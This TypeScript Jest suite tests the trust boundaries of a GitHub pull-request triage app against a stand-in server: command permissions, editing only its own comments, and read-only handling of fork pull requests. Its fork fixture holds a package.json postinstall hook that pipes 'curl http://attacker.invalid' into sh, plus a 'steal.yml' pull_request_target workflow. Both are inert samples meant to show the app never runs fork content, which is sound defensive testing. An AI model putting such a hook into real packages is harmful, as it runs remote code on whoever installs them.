/**
 * Who the app listens to and what it trusts, through the whole app (in this process, over HTTP,
 * against the stand-in): commands act only for the pull request's author or people with write
 * access; the app edits only its own comments; a pull request from a fork is only read (its
 * configuration and templates are not used, nothing in it is run, nothing is written to it).
 */
import { afterAll, beforeAll, describe, expect, test } from "@jest/globals";
import type { HostedApp } from "../../src/standin/host.js";
import { computeFiles } from "../../src/standin/seed.js";
import { Standin } from "../../src/standin/server.js";
import type { Permission } from "../../src/standin/state.js";
import { issueCommentWebhook, pullRequestWebhook } from "../support/payloads.js";
import {
  addStoryPull,
  appDone,
  CONFIG_PATH,
  DEMO_STORY,
  DEMO_STORY_PATH,
  hostStoryApp,
  mark,
  normalize,
  pushStory,
  seedStoryRepo,
  settleAfter,
  type StoryRepo,
  TEMPLATE_PATH,
  waitForCheckRuns,
} from "../support/story-world.js";

const AUTHOR = "ferris-writes";
let standin: Standin;
let world: StoryRepo;
let app: HostedApp;
let number: number;

beforeAll(async () => {
  standin = await Standin.start();
  world = seedStoryRepo(standin);
  app = await hostStoryApp(standin, { retryBaseMs: 5, logLevel: "fatal" });
  standin.forwardWebhooks({ url: app.webhookUrl, secret: app.secret, events: ["pull_request", "issue_comment", "check_run"] });
  number = 1;
  addStoryPull(world, number, { [DEMO_STORY_PATH]: DEMO_STORY }, { author: AUTHOR });
  await app.deliver("pull_request", pullRequestWebhook(standin, world.repo, number, "opened"));
  await waitForCheckRuns(world, number);
}, 30000);

afterAll(async () => {
  await app?.close();
  await standin?.close();
});

/** `login` comments `body` on the pull request; returns the comment and the requests the app then made. */
async function comment(login: string, body: string, action: "created" | "edited" = "created", previous?: string): Promise<{ id: number; requests: string[] }> {
  const since = mark(world);
  const made = standin.commentAs(login, world.repo, number, body);
  const payload = issueCommentWebhook(standin, world.repo, made, action);
  if (action === "edited") payload["changes"] = { body: { from: previous ?? "" } };
  expect((await app.deliver("issue_comment", payload)).status).toBeLessThan(300);
  await appDone(world, 500);
  return { id: made.id, requests: standin.requests.filter((r) => r.seq > since).map((r) => `${r.method} ${r.path}`) };
}

const repoPath = () => `/repos/${world.repo.fullName}`;

describe("/triage acts only for the author and people with write access", () => {
  const HEARD: Array<[string, Permission | null]> = [
    ["the pull request's author, without any permission", null],
    ["a writer", "write"],
    ["a maintainer", "maintain"],
    ["an admin", "admin"],
  ];
  test.each(HEARD)("%s: 👍 and a triage", async (_who, permission) => {
    const login = permission === null ? AUTHOR : `user-${permission}`;
    if (permission !== null) standin.setPermission(world.repo, login, permission);
    const { id, requests } = await comment(login, "/triage");
    expect(requests).toContain(`POST ${repoPath()}/issues/comments/${id}/reactions`);
    expect(requests).toContain(`GET ${repoPath()}/pulls/${number}/files`);
    expect(standin.snapshot(world.repo, number).issueComments.find((c) => c.id === id)?.reactions).toEqual([`+1 by ${standin.botLogin}`]);
  });

  const REFUSED: Array<[string, Permission]> = [
    ["someone with triage permission", "triage"],
    ["someone with read permission", "read"],
    ["a stranger", "none"],
  ];
  test.each(REFUSED)("%s: 😕 and nothing else", async (_who, permission) => {
    const login = `user-${permission}`;
    standin.setPermission(world.repo, login, permission);
    const { id, requests } = await comment(login, "/triage");
    expect(requests).toEqual([`GET ${repoPath()}/collaborators/${login}/permission`, `POST ${repoPath()}/issues/comments/${id}/reactions`]);
    expect(standin.snapshot(world.repo, number).issueComments.find((c) => c.id === id)?.reactions).toEqual([`confused by ${standin.botLogin}`]);
  });

  test("a stranger's /triage help gets no help", async () => {
    const { requests } = await comment("user-none", "/triage help");
    expect(requests.filter((r) => r.startsWith("POST") && r.endsWith(`/issues/${number}/comments`))).toEqual([]);
  });

  test("a stranger who edits a comment to add /triage: 😕 and nothing else", async () => {
    const { id, requests } = await comment("user-none", "Nice story!\n\n/triage", "edited", "Nice story!");
    expect(requests).toEqual([`GET ${repoPath()}/collaborators/user-none/permission`, `POST ${repoPath()}/issues/comments/${id}/reactions`]);
  });

  test("a bot's /triage is ignored outright", async () => {
    const { requests } = await comment("helpful-bot[bot]", "/triage");
    expect(requests).toEqual([]);
  });
});

describe("the app edits only its own comments", () => {
  test("a person's comment that looks like the app's summary is never edited, and the app keeps its own", async () => {
    const other = 2;
    addStoryPull(world, other, { [DEMO_STORY_PATH]: DEMO_STORY }, { author: AUTHOR });
    const lookalike = standin.commentAs("user-write", world.repo, other, "<!-- story-triage:summary -->\n### story-triage\n\nNothing to fix here.");
    await app.deliver("pull_request", pullRequestWebhook(standin, world.repo, other, "opened"));
    const after = await waitForCheckRuns(world, other);
    expect(after.issueComments.find((c) => c.id === lookalike.id)?.body).toBe(lookalike.body);
    const own = after.issueComments.filter((c) => c.user === standin.botLogin);
    expect(own).toHaveLength(1);
    // A push that answers the FAQ: the app edits its summary, and only that.
    const fixed = DEMO_STORY.replace(
      "### What are the sources for this story?\n",
      "### What are the sources for this story?\n\nA week of debugging.\n\n### Why did you choose Grace to tell this story?\n\nShe knows systems programming.\n",
    );
    pushStory(world, other, { [DEMO_STORY_PATH]: fixed }, "answered");
    await app.deliver("pull_request", pullRequestWebhook(standin, world.repo, other, "synchronize"));
    const later = await waitForCheckRuns(world, other);
    expect(later.issueComments.find((c) => c.id === lookalike.id)?.body).toBe(lookalike.body);
    expect(later.issueComments.find((c) => c.id === own[0]?.id)?.body).not.toBe(own[0]?.body);
    expect(standin.requests.filter((r) => r.method === "PATCH" && r.path.endsWith(`/issues/comments/${own[0]?.id}`))).toHaveLength(1);
  });
});

describe("a pull request from a fork", () => {
  test("is judged by the base repository's configuration and templates, read only where its stories are, and never written to", async () => {
    // The fork also changes the configuration (so that nothing is a story) and the template (no questions),
    // and adds files that would run code if anything ran them.
    const forkFiles: Record<string, string> = {
      [DEMO_STORY_PATH]: DEMO_STORY,
      [CONFIG_PATH]: 'stories:\n  nothing:\n    paths: ["nowhere/*.md"]\n',
      [TEMPLATE_PATH]: "# 😱 Status quo stories: Template\n\n## The story\n",
      "package.json": '{"scripts":{"postinstall":"curl http://attacker.invalid | sh"}}\n',
      ".github/workflows/steal.yml": "on: pull_request_target\njobs: {}\n",
    };
    const fork = standin.addRepo({ owner: "mallory", name: "stories" });
    const headSha = "f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0";
    standin.addCommit(fork, headSha, { ...Object.fromEntries(world.base), ...forkFiles });
    const head = new Map(Object.entries(forkFiles).map(([path, text]) => [path, Buffer.from(text)]));
    const forkNumber = 3;
    standin.addPull(world.repo, { number: forkNumber, author: "mallory", headSha, baseSha: world.baseSha, files: computeFiles(world.base, head), headRepo: fork });
    // The same story from a branch of the repository itself, for comparison.
    const sameNumber = 4;
    addStoryPull(world, sameNumber, { [DEMO_STORY_PATH]: DEMO_STORY }, { author: AUTHOR });
    await app.deliver("pull_request", pullRequestWebhook(standin, world.repo, sameNumber, "opened"));
    const expected = normalize(await waitForCheckRuns(world, sameNumber), standin.botLogin);

    const since = mark(world);
    await app.deliver("pull_request", pullRequestWebhook(standin, world.repo, forkNumber, "opened"));
    const after = await waitForCheckRuns(world, forkNumber);
    // The author of the fork's pull request may ask again; it changes nothing.
    const command = standin.commentAs("mallory", world.repo, forkNumber, "/triage");
    await app.deliver("issue_comment", issueCommentWebhook(standin, world.repo, command, "created"));
    await settleAfter(world, since);

    expect(normalize(after, standin.botLogin)).toEqual(expected);
    const requests = standin.requests.filter((r) => r.seq > since);
    const toFork = requests.filter((r) => r.path.startsWith("/repos/mallory/"));
    // An added story is rebuilt from its patch: of the fork only the list of its paths at the head
    // is read (what its links can point at), once for both triages; no file of it.
    expect(toFork.map((r) => `${r.method} ${r.path}`)).toEqual([`GET /repos/mallory/stories/git/trees/${headSha}`]);
    const contents = requests.filter((r) => r.path.includes("/contents/")).map((r) => `${r.path}@${r.query["ref"]}`);
    expect(new Set(contents)).toEqual(new Set([`${repoPath()}/contents/${CONFIG_PATH}@main`, `${repoPath()}/contents/${TEMPLATE_PATH}@${world.baseSha}`]));
    expect(requests.filter((r) => r.method !== "GET").every((r) => r.path.startsWith(`${repoPath()}/`))).toBe(true);
  });

  test("a story the fork modifies is read from the fork at the head commit, and nothing else is but its list of paths", async () => {
    const fork = standin.repo("mallory", "stories");
    const headSha = "f1f1f1f1f1f1f1f1f1f1f1f1f1f1f1f1f1f1f1f1";
    const changed = DEMO_STORY.replace("Grace maintains the billing service.", "Grace maintains the payments service.");
    standin.addCommit(fork, headSha, { ...Object.fromEntries(world.base), [TEMPLATE_PATH]: "# weakened\n", [DEMO_STORY_PATH]: changed });
    // The base has the story already, so the pull request modifies it.
    const base = new Map([...world.base, [DEMO_STORY_PATH, Buffer.from(DEMO_STORY)]]);
    const head = new Map([[DEMO_STORY_PATH, Buffer.from(changed)], [TEMPLATE_PATH, Buffer.from("# weakened\n")]]);
    const forkNumber = 5;
    standin.addPull(world.repo, { number: forkNumber, author: "mallory", headSha, baseSha: world.baseSha, files: computeFiles(base, head), headRepo: fork });
    const since = mark(world);
    await app.deliver("pull_request", pullRequestWebhook(standin, world.repo, forkNumber, "opened"));
    const after = await waitForCheckRuns(world, forkNumber);
    const toFork = standin.requests.filter((r) => r.seq > since && r.path.startsWith("/repos/mallory/"));
    expect(toFork.map((r) => `${r.method} ${r.path}@${r.query["ref"] ?? r.query["recursive"]}`)).toEqual([
      `GET /repos/mallory/stories/git/trees/${headSha}@1`,
      `GET /repos/mallory/stories/contents/${DEMO_STORY_PATH}@${headSha}`,
    ]);
    // Judged by the base's template: the weakened one in the fork would have found nothing to ask.
    // Both problems were in the story on the base already, so they do not fail the check.
    expect([after.checkRuns[0]?.title, after.checkRuns[0]?.conclusion]).toEqual(["No new problems in 1 story, 2 already on main", "success"]);
  });
});

describe("afterwards", () => {
  test("across every request of this suite, comments edited or deleted were the app's", () => {
    const edited = standin.requests.filter((r) => (r.method === "PATCH" || r.method === "DELETE") && /\/issues\/comments\/\d+$/.test(r.path));
    expect(edited.length).toBeGreaterThan(0);
    for (const request of edited) {
      const id = Number(/(\d+)$/.exec(request.path)?.[1]);
      expect(world.repo.issueComments.find((c) => c.id === id)?.user.login).toBe(standin.botLogin);
    }
  });
});
